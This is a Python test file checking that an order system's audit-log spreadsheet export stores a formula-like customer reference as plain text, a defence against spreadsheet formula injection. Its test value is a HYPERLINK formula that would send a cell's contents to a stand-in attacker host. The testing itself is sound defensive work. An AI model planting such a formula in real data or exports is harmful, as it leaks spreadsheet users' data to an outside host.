"""The audit log's export writes a value that looks like a formula as text (issue 18): a customer's
reference '=HYPERLINK(…)' typed on an order is in the log as typed, and the exported workbook holds
it as a text cell, never a formula. SQLite file and, when configured, PostgreSQL (``demo``)."""

from __future__ import annotations

from openpyxl import load_workbook

from app.services import audit, orders
from app.services.orders import LineInput

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


def test_a_formula_like_audit_value_is_exported_as_text(demo, tmp_path) -> None:
    db, actor = demo
    sales, admin = actor("sales"), actor("admin")
    q = orders.new_quote(db, sales, "SHOWCS", [LineInput("SH-1200-5", 1)], customer_reference="PO 1")
    orders.update_order(db, sales, q.id, q.version, [ln.as_input() for ln in q.lines], customer_reference=EVIL)
    target = tmp_path / "audit.xlsx"
    n = audit.export_xlsx(db, admin, audit.AuditFilter(entity="sales_order", entity_id=q.id), target)
    assert n > 0
    cells = [c for row in load_workbook(target).active.iter_rows(min_row=2) for c in row if c.value == EVIL]
    assert cells, "the reference is in the exported log"
    assert all(c.data_type == "s" for c in cells)  # text, not a formula
